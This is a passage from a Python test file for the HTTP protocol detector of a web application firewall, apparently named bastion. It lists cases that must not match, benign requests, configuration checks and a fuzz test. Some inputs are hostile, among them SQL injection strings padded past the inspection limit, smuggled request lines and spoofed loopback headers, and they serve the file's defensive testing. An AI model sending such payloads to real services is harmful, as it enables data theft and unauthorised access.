                          body=b'--b\r\nContent-Disposition: form-data; name="f"; filename="M&uuml;ller &amp; Co.txt"'
                               b'\r\n\r\n1\r\n--b--\r\n')),
    (P.MULTIPART_CHARSET, R("POST", headers={"Content-Type": "multipart/form-data; boundary=b"},
                            body=b'--b\r\nContent-Disposition: form-data; name="_charset_"\r\n\r\nUTF-8\r\n--b\r\n'
                                 b'Content-Disposition: form-data; name="a"\r\nContent-Type: text/plain; charset=utf-8'
                                 b"\r\n\r\nx\r\n--b--\r\n")),
    (P.MULTIPART_CTE, R("POST", headers={"Content-Type": "multipart/form-data; boundary=b"},
                        body=b'--b\r\nContent-Disposition: form-data; name="f"; filename="a.bin"\r\n'
                             b"Content-Transfer-Encoding: binary\r\n\r\n\x00\x01\r\n--b--\r\n")),
    (P.CT_CHARSET_UNKNOWN, R("POST", headers={"Content-Type": "text/plain; charset=koi8-r"}, body=b"x")),
    (P.CT_CONFUSION, R("POST", headers={
        "Content-Type": 'multipart/related; type="application/xop+xml"; boundary=abc; start-info="text/xml"'},
        body=b"--abc\r\n")),
    (P.CT_CONFUSION, R("POST", headers={"Content-Type": "multipart/form-data; boundary=----=_Part_12/34"},
                       body=b"------=_Part_12/34\r\n")),
    (P.GET_BODY, R("GET", target="/items")),
    (P.GET_BODY, R("POST", headers=JSON, body=b"{}")),
    (P.GET_FORM, R("GET", headers=JSON, body=b'{"query": {"match_all": {}}}')),
    (P.BODY_NO_CT, R("GET")),
    (P.BODY_NO_CT, R("POST", headers={"Content-Length": "0"})),
    (P.CT_INVALID, R("POST", headers={"Content-Type": "application/json;charset=UTF-8"}, body=b"{}")),
    (P.CT_INVALID, R("POST", headers={"Content-Type": "text/plain; charset=\"utf-8\"; format=flowed"},
                     body=b"hi")),
    (P.CT_INVALID, R("POST", headers={"Content-Type": "application/json;"}, body=b"{}")),
    (P.CT_INVALID, R("POST", headers={"Content-Type": 'multipart/form-data; boundary="a b:c"'},
                     body=b"--a b:c\r\n")),
    (P.CT_CHARSET, R("POST", headers={"Content-Type": "application/json; charset=UTF-8"}, body=b"{}")),
    (P.CT_CHARSET, R("POST", headers={"Content-Type": "text/plain; charset=cp1252"}, body=b"x")),
    (P.CT_CHARSET, R("POST", headers={"Content-Type": "text/plain; charset=Shift_JIS"}, body=b"x")),
    (P.CT_CHARSET_UNUSUAL, R("POST", headers={"Content-Type": "text/plain; charset=ISO-8859-15"}, body=b"x")),
    (P.BODY_JSON, R("POST", headers=JSON, body=b"  \r\n")),
    (P.MULTIPART_BOUNDARY, R("POST", headers={
        "Content-Type": "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"},
        body=b"------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n"
             b"------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n")),
    (P.BODY_JSON, R("POST", headers=JSON, body='{"name": "Zoë O\'Brien", "note": "select * from; drop"}'.encode())),
    (P.BODY_JSON, R("POST", headers=JSON, body=b"\xef\xbb\xbf[1, 2, 3]")),
    (P.BODY_JSON, R("POST", headers=JSON, body=b'{"score": NaN}')),
    (P.BODY_JSON, R("POST", headers=JSON, body=b'{"index": {}}\n{"a": 1}\n')),
    (P.BODY_JSON, R("POST", headers={"Content-Type": "application/json; charset=utf-16"},
                    body='{"a": "b"}'.encode("utf-16"))),
    (P.BODY_JSON, R("POST", headers={"Content-Type": "application/merge-patch+json"}, body=b' {"a": null} ')),
    (P.BODY_XML, R("POST", headers={"Content-Type": "text/xml"}, body=b"\n  <?xml version='1.0'?><a/>")),
    (P.BODY_JSON, R("POST", headers={**JSON, "Content-Encoding": "gzip"},
                    body=bytes.fromhex("1f8b0800000000000003ab56ca48cd4a55b252502a2e4dcec84c51aa0500a1b26b9b11000000"))),
    (P.BODY_JSON, R("POST", headers={"Content-Type": "application/json; charset=iso-8859-1"},
                    body='{"city": "Zürich"}'.encode("latin-1"))),
    (P.BODY_FORM, R("POST", headers=FORM, body=b"q=%7B%22a%22%3A1%7D&page=2")),
    (P.BODY_SMUGGLED, R("POST", headers=JSON,
                        body=b'{"doc": "send GET /admin HTTP/1.1\\r\\nHost: x to the server"}')),
    (P.BODY_SMUGGLED, R("POST", headers={"Content-Type": "text/plain"}, body=b"I said GET / HTTP/1.1 twice")),
    (P.JWT_UNSIGNED, R(headers={"Authorization": "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhIn0.c2ln"})),
    (P.JWT_UNSIGNED, R(headers={"Authorization": "Bearer opaque-token-1234567890"})),
    (P.JWT_UNSIGNED, R(headers={"Authorization": "Bearer eyJ!!!.x.y"})),
    (P.JWT_UNSIGNED, R(headers={"Authorization": "Basic YWxpY2U6c2VjcmV0"})),
    # ordinary tokens: RS256/ES256 with a rotation, UUID, thumbprint or URL-safe kid; a DPoP proof;
    # a JWKS-hosting issuer; base64 JSON state that is no JWT; a detached-payload JWS
    (P.JWT_KID, R(headers={"Authorization": "Bearer " + _jwt({"alg": "RS256", "typ": "JWT", "kid": "2024-05-rot"})})),
    (P.JWT_KID, R(headers={"Authorization": "Bearer " + _jwt(
        {"alg": "ES256", "kid": "3f2a1c7e-5b9d-4e8a-a1b2-0c9d8e7f6a5b"})})),
    (P.JWT_KID, R(headers={"Authorization": "Bearer " + _jwt(
        {"alg": "RS256", "kid": "nOwS6fJx_Xq9-K8RtY3zH2VbM1cLdEpA/+=="})})),
    (P.JWT_KID, R(headers={"Authorization": "Bearer " + _jwt(
        {"alg": "RS256", "kid": "arn:aws:kms:eu-west-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab"})})),
    (P.JWT_KID, R(headers={"Authorization": "Bearer " + _jwt({"alg": "EdDSA", "kid": "did:web:acme.example#key-1"})})),
    (P.JWT_KEY_URL, R(headers={"Authorization": "Bearer " + _jwt(
        {"alg": "RS256", "jku": "https://auth.acme.example/.well-known/jwks.json"},
        claims={"iss": "https://auth.acme.example/"})})),
    (P.JWT_KEY_URL, R(headers={"Authorization": "Bearer " + _jwt(
        {"alg": "RS256", "x5u": "https://keys.acme.example/signing.pem"}, claims={"iss": "https://login.acme.example"})})),
    (P.JWT_EMBEDDED_KEY, R("POST", "/token", headers={"DPoP": _jwt(
        {"typ": "dpop+jwt", "alg": "ES256", "jwk": {"kty": "EC", "crv": "P-256", "x": "a", "y": "b"}})})),
    (P.JWT_NO_SIGNATURE, R(headers={"x-jws-signature": _jwt({"alg": "PS256", "kid": "k", "b64": False}).replace(
        ".eyJzdWIiOiIxIiwicm9sZSI6ImFkbWluIn0.", "..")})),
    (P.JWT_UNSIGNED, R(target="/auth/callback?state=eyJyZXR1cm5UbyI6Ii9vcmRlcnMifQ&code=abc")),
    (P.JWT_UNSIGNED, R("POST", "/notes", headers=JSON, body=b'{"text": "they say eyJ is how JWTs start. ok."}')),
    (P.PATH_OVERRIDE, R(target="/orders/7", headers={"X-Original-URL": "/orders/7"})),
    (P.LOOPBACK_CLAIM, R(headers={"X-Forwarded-For": "10.20.0.4, 203.0.113.195"})),
    (P.LOOPBACK_CLAIM, R(headers={"X-Forwarded-For": "203.0.113.7, 127.0.0.1"})),
    (P.LOOPBACK_ADMIN, R(target="/api/v1/products", headers={"X-Forwarded-For": "127.0.0.1"})),
    (P.HOST_LOOPBACK_ADMIN, R(target="/api/v1/orders", headers={"Host": "localhost:8080"})),
    (P.HOST_LOOPBACK_ADMIN, R(target="/admin/", headers={"Host": "shop.example"})),
    (P.FORWARDED_HOST, R(headers={"Host": "shop.example", "X-Forwarded-Host": "shop.example:443"})),
    (P.FORWARDED_HOST_LINK, R("POST", "/api/v1/orders", headers={
        **JSON, "Host": "shop.example", "X-Forwarded-Host": "cdn.example"}, body=b"{}")),
    (P.METHOD_OVERRIDE_SAFE, R("POST", "/api/v1/users/17", headers={"X-HTTP-Method-Override": "DELETE"})),
    (P.METHOD_OVERRIDE_SAFE, R(target="/api/v1/users/17", headers={"X-HTTP-Method-Override": "GET"})),
    (P.METHOD_OVERRIDE_SAFE, R(target="/api/v1/methods?_method_name=delete")),
    (P.IDENTITY_ARRAY, R("POST", "/api/v1/invitations", headers=JSON,
                         body=b'{"emails": ["a@x.example", "b@y.example"], "role": "viewer"}')),
    (P.IDENTITY_ARRAY, R("POST", "/api/v1/mail/send", headers=FORM,
                         body=b"to%5B%5D=a%40x.example&to%5B%5D=b%40y.example&subject=hi")),
    (P.IDENTITY_ARRAY, R("POST", "/users/password", headers=FORM, body=b"user%5Bemail%5D=victim%40shop.example")),
    (P.IDENTITY_ARRAY_OTHER, R("POST", "/api/v1/contacts", headers=JSON,
                               body=b'{"email": "a@x.example", "cc": ["b@y.example", "c@z.example"]}')),
    (P.NEGOTIATION_INVALID, R(headers={"Accept-Language": "en-US,en;q=0.9,de-CH;q=0.8,*;q=0.5"})),
    (P.NEGOTIATION_INVALID, R(headers={"Accept-Language": "zh-Hans-CN, en_US.UTF-8"})),
    (P.NEGOTIATION_INVALID, R(headers={"Accept-Encoding": "gzip, deflate, br, zstd", "TE": "trailers"})),
    (P.NEGOTIATION_INVALID, R(headers={"If-None-Match": 'W/"{4F5B2C10-88A1-4B3D-9C1E-2A7F0D3E6B91},3"'})),
    (P.NEGOTIATION_INVALID, R(headers={"Sec-CH-UA": '"Chromium";v="125", "Not.A/Brand";v="24"'})),
    (P.PERCENT_INVALID, R(target="/search?q=50%25+off&d=100%")),
    (P.PERCENT_INVALID, R(target="/search?q=%E8%BF%99%E4%B8%AA&x=%u4e2d%u6587")),
    (P.PATH_ALIAS, R(target="/files/get/..")),
    (P.PATH_ALIAS, R(target="/docs/v1.2..v1.3/diff")),
    (P.PATH_ALIAS, R(target="/a/b/../c")),
    (P.SCANNER_HEADER, R(headers={"X-Note": "Acunetix-Aspect"})),
    (P.REDIRECT_ENCODED, R(target="/login?next=https%3A%2F%2Fshop.example%2Forders")),
    (P.REDIRECT_ENCODED, R(target="/api/v1/webhooks?endpoint=https:%2F%2Fhooks.example%2Fx")),
]


def _ids(cases):
    return [f"{rule.id}-{i}" for i, (rule, _) in enumerate(cases)]


@pytest.fixture(scope="module")
def pipeline():
    return make_pipeline(only={"protocol"})


async def _findings(pipeline, kw):
    kw = dict(kw)
    ex = make_exchange(kw.pop("method"), kw.pop("target"), pipeline=pipeline, **kw)
    verdict = await run_request(pipeline, exchange=ex)
    return ex, verdict


@pytest.mark.parametrize(("rule", "kw"), MUST_MATCH, ids=_ids(MUST_MATCH))
async def test_must_match(pipeline, rule, kw):
    ex, verdict = await _findings(pipeline, kw)
    hits = [f for f in ex.findings if f.rule_id == rule.id]
    assert hits, f"{rule.id} not reported; got {[f.rule_id for f in ex.findings]}"
    if rule.reason or rule.severity >= 5:
        assert verdict.blocks, f"{rule.id} must block on its own"
    if rule.reason:
        assert verdict.status == hits[0].status and verdict.reason == rule.reason
    for f in ex.findings:  # evidence stays short and printable
        assert len(f.evidence) <= 64 and "\r" not in f.evidence and "\n" not in f.evidence


@pytest.mark.parametrize(("rule", "kw"), MUST_NOT_MATCH, ids=_ids(MUST_NOT_MATCH))
async def test_must_not_match(pipeline, rule, kw):
    ex, _ = await _findings(pipeline, kw)
    assert rule.id not in {f.rule_id for f in ex.findings}


BENIGN = [
    R("GET", "/api/v1/users?page=2&sort=-created_at"),
    R("GET", "/search?q=caf%C3%A9+%26+cr%C3%A8me&lang=fr", headers={"Accept": "application/json"}),
    R("POST", "/login", headers=JSON, body=b'{"username": "o\'brien", "password": "p@ss; drop"}'),
    R("PUT", "/users/42", headers={"Content-Type": "application/json; charset=utf-8"}, body=b'{"bio": "hi"}'),
    R("PATCH", "/users/42", headers={"Content-Type": "application/merge-patch+json"}, body=b'{"bio": null}'),
    R("DELETE", "/orders/9"),
    R("HEAD", "/health"),
    R("OPTIONS", "/api", headers={"Origin": "https://app.example", "Access-Control-Request-Method": "POST"}),
    R("POST", "/form", headers=FORM, body=b"name=Zo%C3%AB&comment=Hello%0D%0AWorld"),
    R("POST", "/upload", headers={"Content-Type": "multipart/form-data; boundary=XyZ"},
      body=b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\nhello\r\n--XyZ--\r\n"),
    R("GET", "/", http_version="1.0", headers={"Host": "api.example"}),
    R("GET", "/ws", headers={"Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13",
                             "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ=="}),
    R("POST", "/events", headers={"Content-Type": "application/json", "Transfer-Encoding": "chunked"},
      body=b'{"e": 1}'),
    R("GET", "/es/_search", headers=JSON, body=b'{"query": {"match": {"title": "x"}}}'),  # odd, scored only
    R("POST", "/raw", body=b"just bytes"),  # no Content-Type: a notice
    R("GET", "/h2", headers={"Connection": "Upgrade, HTTP2-Settings", "Upgrade": "h2c",
                             "HTTP2-Settings": "AAMAAABkAARAAAAAAAIAAAAA"}),  # curl --http2 on http://
    R("POST", "/curl", headers=FORM, body=b'{"curl": "-d sends JSON as a form"}'),  # a notice
]


@pytest.mark.parametrize("kw", BENIGN)
async def test_benign_requests_are_not_blocked(pipeline, kw):
    _, verdict = await _findings(pipeline, kw)
    assert not verdict.blocks, verdict


async def test_method_not_allowed_carries_allow_header(pipeline):
    _, verdict = await _findings(pipeline, R("TRACE"))
    assert verdict.status == 405
    assert ("Allow", "GET, HEAD, POST, PUT, PATCH, DELETE, OPTIONS") in verdict.headers


async def test_allowed_methods_are_configurable():
    pipeline = make_pipeline({"protocol": {"allowed_methods": ["GET", "PROPFIND"]}}, only={"protocol"})
    assert not (await run_request(pipeline, "PROPFIND", "/dav")).blocks
    assert (await run_request(pipeline, "POST", "/x")).status == 405


async def test_truncated_json_body_checks_only_its_start():
    pipeline = make_pipeline({"limits": {"inspect_body_bytes": 16, "uninspected_body": "pass"}}, only={"protocol"})
    body = b'{"items": [' + b"1," * 100 + b"1]}"
    assert not (await run_request(pipeline, "POST", "/bulk", headers=JSON, body=body)).blocks
    assert (await run_request(pipeline, "POST", "/bulk", headers=JSON, body=b"a=" + b"1" * 100)).blocks


async def test_a_text_body_longer_than_what_is_inspected_is_refused():
    # an injection padded past the inspected prefix would reach the API unseen: 413, unless told to pass
    pipeline = make_pipeline({"limits": {"inspect_body_bytes": 1024}}, only={"protocol", "signatures"})
    padded = b'{"pad": "' + b"A" * 2000 + b'", "q": "1\' UNION SELECT password FROM users--"}'
    for ctype, body in ((JSON, padded), ({"Content-Type": "application/x-www-form-urlencoded"},
                                         b"pad=" + b"A" * 2000 + b"&q=1%27+UNION+SELECT+1--"),
                        ({"Content-Type": "text/plain"}, b"A" * 3000), ({}, b"A" * 3000)):
        v = await run_request(pipeline, "POST", "/api/search", headers=ctype, body=body)
        assert v.blocks and v.status == 413, ctype
        assert "protocol-body-uninspected" in v.rule_ids
    # files and binary data pass: their content is not inspected anyway
    part = b'--xyz\r\nContent-Disposition: form-data; name="f"; filename="a.bin"\r\n\r\n' + b"\x00" * 3000
    for ctype, body in (("application/octet-stream", b"\x00" * 3000), ("image/png", b"\x89PNG" + b"\x00" * 3000),
                        ("multipart/form-data; boundary=xyz", part)):
        v = await run_request(pipeline, "POST", "/upload", headers={"Content-Type": ctype}, body=body)
        assert not v.blocks, ctype
    # within the limit: inspected, served
    small = b'{"a": "' + b"x" * 900 + b'"}'
    assert not (await run_request(pipeline, "POST", "/api/items", headers=JSON, body=small)).blocks


async def test_body_checks_can_be_disabled():
    pipeline = make_pipeline({"protocol": {"check_bodies": False}}, only={"protocol"})
    assert not (await run_request(pipeline, "POST", "/x", headers=JSON, body=b"not json")).blocks


async def test_observe_mode_never_blocks():
    pipeline = make_pipeline({"mode": "observe"}, only={"protocol"})
    verdict = await run_request(pipeline, "POST", "/", headers={"Content-Length": "4", "Transfer-Encoding": "chunked"})
    assert verdict.action == Action.LOG and verdict.would_block


async def test_dav_headers_only_score_when_webdav_is_allowed():
    pipeline = make_pipeline({"protocol": {"allowed_methods": ["GET", "PROPFIND", "LOCK"]}}, only={"protocol"})
    ex = make_exchange("GET", "/dav/a.txt", headers={"Lock-Token": "<opaquelocktoken:x>"}, pipeline=pipeline)
    verdict = await run_exchange(pipeline, ex)
    assert [f.rule_id for f in ex.findings] == [P.DAV_HEADER.id]
    assert not verdict.blocks


async def test_content_type_policy_is_opt_in():
    policy = make_pipeline({"protocol": {"allowed_content_types": ["application/json", "multipart/form-data"]}},
                           only={"protocol"})
    default = make_pipeline(only={"protocol"})
    plain = {"headers": {"Content-Type": "text/plain"}, "body": b"hello"}
    assert (await run_request(policy, "POST", "/x", **plain)).blocks
    assert not (await run_request(default, "POST", "/x", **plain)).blocks
    ok = {"headers": {"Content-Type": "application/json; charset=utf-8"}, "body": b"{}"}
    assert not (await run_request(policy, "POST", "/x", **ok)).blocks
    assert not (await run_request(policy, "GET", "/x", headers={"Content-Type": "text/plain"})).blocks


def test_every_rule_has_a_must_match_case():
    # DAV_HEADER and CT_NOT_ALLOWED need a non-default config: the tests above
    covered = {rule.id for rule, _ in MUST_MATCH} | {P.DAV_HEADER.id, P.CT_NOT_ALLOWED.id}
    assert covered == {r.id for r in P.RULES}


# --- hostile input never breaks the detector ------------------------------------------------------

from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

_text = st.text(st.characters(min_codepoint=0, max_codepoint=0x2FF), max_size=40)
_header_names = st.sampled_from(
    ["Host", "Content-Length", "Transfer-Encoding", "Content-Type", "Connection", "Range", "Expect", "Upgrade",
     "X-HTTP-Method-Override", "Proxy", "Referer", "X_Forwarded_For", "Bad Name", ""]
)
_ctypes = st.sampled_from(
    ["application/json", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/xml",
     "application/json; charset=ibm037", 'text/plain; charset="', "a/b; x=application/xml", ";;;", "/"]
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    method=st.one_of(st.sampled_from(["GET", "POST", "HEAD", "PUT", "OPTIONS"]), _text),
    target=st.one_of(st.text(max_size=80).map(lambda s: "/" + s), _text, st.just("*"),
                     st.text(max_size=30).map(lambda s: "http://" + s)),
    version=st.sampled_from(["1.1", "1.0", "2", "0.9", "", "x"]),
    headers=st.lists(st.tuples(st.one_of(_header_names, _text), st.one_of(_text, _ctypes)), max_size=8),
    body=st.binary(max_size=200),
)
async def test_fuzz_never_raises(pipeline, method, target, version, headers, body):
    pipeline.counters.detector_errors.clear()
    ex = make_exchange(method, target, headers=headers, body=body, http_version=version, pipeline=pipeline)
    verdict = await run_request(pipeline, exchange=ex)
    assert pipeline.counters.detector_errors == {}, ex.errors
    assert verdict is not None
    for f in ex.findings:
        assert len(f.evidence) <= 64 and "\n" not in f.evidence


def test_every_rule_is_documented():
    from pathlib import Path

    from bastion.detect import limits

    doc = (Path(__file__).resolve().parent.parent / "docs" / "protocol.md").read_text()
    ids = [r.id for r in P.RULES] + [v for k, v in vars(limits).items() if k.startswith("RULE_")]
    assert [i for i in ids if f"`{i}`" not in doc] == []
